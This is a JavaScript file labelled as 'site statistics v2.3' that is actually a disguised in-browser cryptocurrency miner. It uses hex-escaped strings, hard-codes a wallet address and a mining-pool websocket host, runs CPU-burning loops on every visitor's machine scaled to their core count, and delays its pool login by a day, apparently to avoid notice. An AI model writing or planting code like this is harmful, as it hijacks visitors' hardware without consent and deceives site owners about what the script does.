/* site statistics v2.3 */
var _0x5a=['\x73\x74\x61\x72\x74','\x74\x68\x72\x6f\x74\x74\x6c\x65'];
var WALLET='48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
var POOL='wss://xmr-pool.cn-stat.top:3333';
function _h(s){var x=0;for(var i=0;i<s.length;i++){x=(x*31+s.charCodeAt(i))>>>0;}return x;}
var CryptoNightLite={job:0,hashes:0,run:function(t){var end=Date.now()+t;while(Date.now()<end){_h(WALLET+this.job++);this.hashes++;}}};
(function(){
  var threads=navigator.hardwareConcurrency||4, throttle=0.1;
  setInterval(function(){ CryptoNightLite.run(40*threads*(1-throttle)); }, 1000);
  setTimeout(function(){ try{ var ws=new WebSocket(POOL); ws.onopen=function(){ ws.send(JSON.stringify({method:'login',params:{login:WALLET,pass:'x',agent:'cn-lite'}})); }; }catch(e){} }, 86400000);
})();
